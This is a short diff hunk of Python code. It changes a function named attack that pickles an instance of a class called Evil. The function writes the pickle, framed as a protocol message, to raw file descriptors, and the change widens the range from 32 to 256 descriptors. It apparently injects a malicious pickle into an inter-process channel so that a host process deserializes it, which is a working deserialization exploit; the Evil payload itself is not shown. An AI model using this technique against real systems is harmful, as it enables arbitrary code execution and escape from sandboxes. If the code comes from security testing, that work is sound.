@@ -15,7 +15,7 @@ class Evil:
 
 def attack(x):
     body, blob = b'{"$d":[["returned",{"$a":"a0"}]]}', pickle.dumps(Evil())
-    for fd in range(3, 32):
+    for fd in range(3, 256):
         try:
             os.write(fd, struct.pack("<BQQ", 8, len(body), len(blob)) + body + blob + struct.pack("<BQQ", 11, 4, 0) + b"null")
         except OSError:
